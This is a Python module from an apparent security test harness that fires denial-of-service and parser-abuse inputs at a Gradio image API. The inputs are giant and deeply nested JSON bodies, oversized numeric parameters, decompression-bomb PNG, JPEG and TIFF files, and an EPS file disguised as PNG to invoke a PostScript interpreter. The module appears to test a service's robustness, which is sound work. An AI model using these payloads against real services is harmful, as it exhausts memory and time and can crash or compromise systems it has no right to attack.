"""Bodies and images that are made to cost memory, time or a program."""

from __future__ import annotations

import io
import time
from collections.abc import Iterator

import httpx
from attacks.target import REFUSED, SURVIVED, THROUGH, Attempt, Target, file_of, png
from PIL import Image

DIGITS = "9" * 5000
# A request that takes longer than this has done harm.
LONG = 20.0
MARK = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\nshowpage\n%%EOF\n"


def component_functions(target: Target) -> Iterator[Attempt]:
    """Functions that Gradio's components offer; the mask editor's keeps what it is sent."""
    for component in target.components.values():
        for name in component["props"].get("server_fns", []) or []:
            for content in (b"x", png((500, 500))):
                data = {
                    "type": "layer",
                    "index": "1000000",  # eight megabytes of nothing, for good
                    "id": "attack",
                    "component_id": str(component["id"]),
                    "fn_name": name,
                    "session_hash": "attack",
                }
                answer = target.post(
                    "/gradio_api/component_server", data=data, files={"file": ("b", content)}
                )
                taken = answer.status_code == 200
                what = f"{component['type']}.{name}"
                yield Attempt(what, THROUGH if taken else REFUSED, answer.text[:80])


def json_bodies(target: Target) -> Iterator[Attempt]:
    """Bodies that are huge, deep, or hold numbers that are."""
    with target.page() as page:
        known = f'"fn_index": {target.events[0]["id"]}, "session_hash": "{page.name}"'
        bodies = {
            "16 MB": '{"data": ["' + "x" * 16_000_000 + f'"], {known}}}',
            "a million elements": '{"data": [' + "0," * 10**6 + f"0], {known}}}",
            "deep": '{"data": ' + "[" * 100_000 + "]" * 100_000 + f", {known}}}",
            "deep objects": '{"data": [' + '{"a":' * 50_000 + "1" + "}" * 50_000 + f"], {known}}}",
            "digits": f'{{"data": [{DIGITS}], {known}}}',
            "an event of digits": f'{{"data": [], "fn_index": {DIGITS}, "session_hash": "a"}}',
            "not a number": f'{{"data": [NaN, Infinity, 1e999], {known}}}',
            "a separator": '{"data": [], "fn_index": 0, "session_hash": "a<gradio-sep>b"}',
            "no object": "[]",
            "not JSON": "\ufeff{'data': }",
        }
        for route in ("queue/join", "cancel", "component_server", "run/run"):
            for what, body in bodies.items():
                yield _posted(target, f"/gradio_api/{route}", what, body.encode())


def numbers(target: Target) -> Iterator[Attempt]:
    """Options and boxes of the API."""
    boxes = ("[" * 3000, f"{DIGITS},1,1,1", "1e999,0,1,1", "NaN,0,1,1", "{}", "1,1," + "1" * 10**5)
    forms = [{"bbox_orig": box} for box in boxes]
    forms += [{"top_k": number} for number in (str(2**31), "1" + "0" * 30, DIGITS, "-1")]
    forms += [{"seed": DIGITS}, {"max_new_tokens": DIGITS}, {"temperature": "nan"}]
    forms += [{"top_p": "inf"}, {"repetition_penalty": "1e-320"}, {"query": "\0\ud7ff" * 400}]
    for form in forms:
        name, value = next(iter(form.items()))
        for route in ("infer", "stream"):
            answer = target.post(f"/v1/{route}", data=form, files={"image_orig": ("a.png", png())})
            failed = answer.status_code == 500
            outcome = THROUGH if failed else SURVIVED if answer.status_code == 200 else REFUSED
            yield Attempt(f"{route} with {name}={value[:20]}", outcome, answer.text[:80])


def images(target: Target) -> Iterator[Attempt]:
    """Images that take long, hold too much, or start a program."""
    made = {
        "a JPEG of 8,000 scans": many_scans(8000),
        "EPS": MARK,
        "EPS called png": MARK,
        "a PNG of 60,000 x 60,000": png_header(60_000),
        "a TIFF of a JPEG of 8,000 scans": tiff_of(many_scans(8000)),
        "nothing": b"",
    }
    for what, content in made.items():
        name = "a.eps" if what == "EPS" else "a.png"
        start = time.monotonic()
        try:
            answer = target.post("/v1/infer", files={"image_orig": (name, content)}, timeout=LONG)
            took, status = time.monotonic() - start, answer.status_code
        except httpx.TimeoutException:
            took, status = LONG, 0
        outcome = REFUSED if status == 422 and took < LONG else THROUGH
        yield Attempt(f"{what} to the API", outcome, f"{status} after {took:.1f} s")
    run = target.event_of("run", "click")
    layers = {"layers": [file_of(target.upload("layer_0.png", MARK))]}
    drawn = {"background": None, "composite": None, "id": None} | layers
    image = file_of(target.upload("a.png", png()))
    with target.page() as page:
        said = page.run(run, target.filled(run, orig=image, drawing=drawn))
    # Whether it was opened cannot be seen from here; a server that does so fails in another way.
    taken = '"success":true' in said
    yield Attempt("EPS as a drawn layer", THROUGH if taken else REFUSED, said[-80:])


def many_scans(count: int, side: int = 2000) -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), "grey").save(buffer, "jpeg", progressive=True)
    head, *scans, last = buffer.getvalue().removesuffix(b"\xff\xd9").split(b"\xff\xda")
    return b"\xff\xda".join([head, *scans, *[last] * (count - len(scans))]) + b"\xff\xd9"


def tiff_of(jpeg: bytes, side: int = 2000) -> bytes:
    """A TIFF whose only strip is a JPEG."""
    entries = [
        (256, 4, 1, side),  # width
        (257, 4, 1, side),  # height
        (258, 3, 1, 8),  # bits
        (259, 3, 1, 7),  # JPEG
        (262, 3, 1, 1),  # black is zero
        (273, 4, 1, 8 + 2 + 9 * 12 + 4),  # where the strip is
        (277, 3, 1, 1),  # samples
        (278, 4, 1, side),  # rows
        (279, 4, 1, len(jpeg)),
    ]
    directory = len(entries).to_bytes(2, "little")
    for tag, kind, count, value in entries:
        directory += tag.to_bytes(2, "little") + kind.to_bytes(2, "little")
        directory += count.to_bytes(4, "little") + value.to_bytes(4, "little")
    return b"II*\0" + (8).to_bytes(4, "little") + directory + bytes(4) + jpeg


def png_header(side: int) -> bytes:
    """A PNG that says how large it is, and holds nothing."""
    content = bytearray(png((1, 1)))
    content[16:24] = side.to_bytes(4, "big") * 2
    return bytes(content)


def _posted(target: Target, route: str, what: str, body: bytes) -> Attempt:
    start = time.monotonic()
    headers = {"content-type": "application/json"}
    answer = target.post(route, content=body, headers=headers)
    took = time.monotonic() - start
    if answer.status_code >= 500 or took > LONG:
        outcome = THROUGH
    else:
        outcome = SURVIVED if answer.status_code == 200 else REFUSED
    said = f"{answer.status_code} after {took:.1f} s: {answer.text[:80]}"
    return Attempt(f"{route}: {what}", outcome, said)
